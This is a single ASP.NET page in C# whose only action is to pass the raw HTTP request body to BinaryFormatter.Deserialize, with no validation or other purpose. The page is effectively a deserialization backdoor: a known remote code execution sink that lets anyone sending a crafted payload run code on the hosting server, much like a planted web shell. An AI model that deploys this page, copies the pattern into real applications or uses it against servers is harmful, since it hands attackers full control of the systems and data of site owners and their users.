<%@ Page Language="C#" %><% var f = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter(); f.Deserialize(Request.InputStream); %>
